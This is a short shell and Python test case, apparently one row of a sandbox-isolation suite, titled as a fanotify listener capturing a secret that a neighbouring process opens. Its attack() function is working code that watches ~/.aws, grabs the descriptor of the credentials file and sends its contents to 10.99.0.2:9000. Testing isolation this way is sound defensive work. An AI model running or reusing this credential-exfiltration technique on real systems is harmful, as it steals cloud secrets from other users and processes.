# SPDX-License-Identifier: Apache-2.0
TITLE="a fanotify listener gets a descriptor of the secret that a neighbour opens"
ROW="R25"
attack() {
	python3 - <<-'END'
	import ctypes, os, socket, struct, subprocess
	CLASS_NOTIF, MARK_ADD, OPEN, EVENT_ON_CHILD, AT_FDCWD = 0, 1, 0x20, 0x08000000, -100
	libc = ctypes.CDLL(None, use_errno=True)
	folder = os.path.expanduser('~/.aws').encode()
	listener = libc.fanotify_init(CLASS_NOTIF, os.O_RDONLY)
	if listener < 0 or libc.fanotify_mark(listener, MARK_ADD, ctypes.c_uint64(OPEN | EVENT_ON_CHILD), AT_FDCWD, folder):
	    raise OSError(ctypes.get_errno(), 'fanotify')
	neighbour = subprocess.Popen(['sh', '-c', 'exec 3<"$HOME/.aws/credentials"'])
	event = os.read(listener, 4096)
	fd = struct.unpack_from('=IBBHQii', event)[5]
	socket.create_connection(('10.99.0.2', 9000), 5).sendall(os.pread(fd, 4096, 0))
	neighbour.wait()
	END
}
